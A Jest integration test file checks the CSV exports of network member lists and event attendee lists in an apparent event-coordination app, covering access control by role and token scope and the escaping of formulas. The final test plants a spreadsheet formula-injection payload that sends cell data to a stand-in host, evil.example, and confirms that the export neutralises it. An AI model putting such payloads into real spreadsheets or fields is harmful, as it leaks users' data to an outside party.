import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import {
  eventOf,
  GWENT,
  gwentNetwork,
  type Headers,
  localIn,
  MEMBER_GROUP,
  NEWPORT_CVS,
  signIn,
} from './support/event-helpers';
import { startTestApp, type TestApp } from './support/test-app';

/** CSV downloads beside the GraphQL reads they mirror, allowed and refused as those reads are. */
describe('CSV exports: network members, event attendees', () => {
  let sut: TestApp;
  let admin: Headers;
  let coordinator: Headers;
  let member: Headers;
  let partner: Headers;
  let networkId: string;

  const csv = async (path: string, headers: Headers = {}) => {
    const response = await fetch(`${sut.baseUrl}${path}`, { headers });
    const body = await response.text();
    return {
      status: response.status,
      type: response.headers.get('content-type'),
      rows: response.status === 200 ? parse<Record<string, string>>(body, { columns: true }) : [],
      // A refusal is JSON with the code and reason a GraphQL error carries in its extensions.
      refusal: response.status === 200 ? undefined : (JSON.parse(body) as { code?: string; reason?: string }),
    };
  };
  const token = async (scopeKind: string, scopeTarget?: string): Promise<Headers> => {
    const { createApiToken } = await sut.client.data<{ createApiToken: { token: string } }>(
      'mutation ($input: CreateApiTokenInput!) { createApiToken(input: $input) { token } }',
      { input: { organisationId: NEWPORT_CVS, name: `Export ${scopeKind}`, scopeKind, scopeTarget } },
      coordinator,
    );
    return { authorization: `Bearer ${createApiToken.token}` };
  };

  beforeAll(async () => {
    sut = await startTestApp();
    admin = await signIn(sut, 'admin@demo.convene.example');
    coordinator = await signIn(sut, 'coordinator@demo.convene.example');
    member = await signIn(sut, 'member@demo.convene.example');
    partner = await signIn(sut, 'partner@demo.convene.example');
    networkId = await gwentNetwork(sut, coordinator, admin); // member list private by default
  });

  afterAll(async () => {
    await sut.close();
  });

  it("lists a network's convenors to anyone, and its other members as the `members` field allows", async () => {
    const path = `/networks/${networkId}/members.csv`;
    const outside = await csv(path, partner);
    expect(outside.status).toBe(200);
    expect(outside.type).toContain('text/csv');
    expect(outside.rows).toEqual([
      expect.objectContaining({ organisation_id: NEWPORT_CVS, role: 'CONVENOR', status: 'ACTIVE' }),
    ]);
    // The GraphQL read agrees: convenors public, members null for an outsider.
    const read = await sut.client.data<{ network: { convenors: unknown[]; members: unknown[] | null } }>(
      'query ($id: ID!) { network(id: $id) { convenors { id } members { id } } }',
      { id: networkId },
      partner,
    );
    expect(read.network).toMatchObject({ convenors: [expect.anything()], members: null });
    expect((await csv(path)).rows).toHaveLength(1); // anonymous: the same

    const inside = await csv(path, member);
    expect(inside.rows.map((r) => [r.organisation_id, r.role])).toEqual([
      [NEWPORT_CVS, 'CONVENOR'],
      [MEMBER_GROUP, 'MEMBER'],
    ]);

    await sut.client.data(
      'mutation ($input: UpdateNetworkInput!) { updateNetwork(input: $input) { network { id } } }',
      { input: { networkId, membersPublic: true } },
      coordinator,
    );
    expect((await csv(path)).rows).toHaveLength(2);
  });

  it('holds an API token to its scope, and answers 404 for no such network', async () => {
    const path = `/networks/${networkId}/members.csv`;
    expect((await csv(path, await token('POLICE_FORCE_AREA', GWENT))).status).toBe(200);
    expect(await csv(path, await token('POLICE_FORCE_AREA', 'E23000001'))).toMatchObject({
      status: 403,
      refusal: { code: 'FORBIDDEN', reason: 'OUTSIDE_TOKEN_SCOPE' },
    });
    expect(await csv('/networks/00000000-0000-4000-8000-000000000000/members.csv')).toMatchObject({
      status: 404,
      refusal: { code: 'NOT_FOUND', reason: 'NOT_FOUND' },
    });
    expect(await csv('/networks/not-an-id/members.csv')).toMatchObject({
      status: 404,
      refusal: { code: 'NOT_FOUND', reason: 'NOT_FOUND' },
    });
  });

  it("gives an event's organisers its attendees, places first, and refuses everyone else", async () => {
    const event = await eventOf(sut, coordinator, {
      networkId,
      kind: 'NETWORK_MEETING',
      title: 'Exported meeting (test)',
      start: localIn(20),
      end: localIn(20, 20),
      capacity: 1,
    });
    for (const [who, organisationId] of [
      [member, MEMBER_GROUP],
      [coordinator, NEWPORT_CVS],
    ] as const) {
      const answered = await sut.client.request(
        'mutation ($input: AnswerEventInput!) { answerEvent(input: $input) { rsvp { id } } }',
        { input: { eventId: event.id, organisationId, answer: 'GOING' } },
        who,
      );
      expect(answered.errors).toBeUndefined();
    }
    const path = `/events/${event.id}/attendees.csv`;
    const organisers = await csv(path, coordinator);
    expect(organisers.status).toBe(200);
    expect(organisers.rows.map((r) => [r.organisation_id, r.answer, r.place])).toEqual([
      [MEMBER_GROUP, 'GOING', 'CONFIRMED'],
      [NEWPORT_CVS, 'GOING', 'WAITLISTED'],
    ]);
    expect((await csv(path, admin)).status).toBe(200); // platform admins, as for `rsvps`

    expect(await csv(path, member)).toMatchObject({
      status: 403, // a member who is not an organiser
      refusal: { code: 'FORBIDDEN', reason: 'NOT_AN_ORGANISER' },
    });
    expect((await csv(path)).status).toBe(404); // members-only: not even its existence, as for `event`
    expect((await csv(path, partner)).status).toBe(404);
    expect((await csv(path, await token('NATIONAL'))).status).toBe(404);
    expect((await csv(`${path}?occurrenceStart=yesterday`, coordinator)).status).toBe(400);
  });

  it('answers 401 to an anonymous caller for a public event', async () => {
    const event = await eventOf(sut, coordinator, {
      networkId,
      visibility: 'PUBLIC',
      kind: 'NETWORK_MEETING',
      title: 'Public meeting (test)',
      start: localIn(21),
      end: localIn(21, 20),
    });
    expect((await csv(`/events/${event.id}/attendees.csv`)).status).toBe(401);
    expect((await csv(`/events/${event.id}/attendees.csv`, partner)).status).toBe(403);
  });

  it('writes a name that looks like a formula as text, so a spreadsheet does not run it', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';
    const rename = (name: string) =>
      sut.client.data(
        'mutation ($id: ID!, $name: String!) { updateOrganisation(input: { id: $id, name: $name }) { organisation { id } } }',
        { id: NEWPORT_CVS, name },
        coordinator,
      );
    const { organisation } = await sut.client.data<{ organisation: { name: string } }>(
      'query ($id: ID!) { organisation(id: $id) { name } }',
      { id: NEWPORT_CVS },
    );
    await rename(formula);
    try {
      const { rows } = await csv(`/networks/${networkId}/members.csv`);
      expect(rows.find((r) => r.organisation_id === NEWPORT_CVS)?.organisation).toBe(`'${formula}`);
    } finally {
      await rename(organisation.name);
    }
  });
});
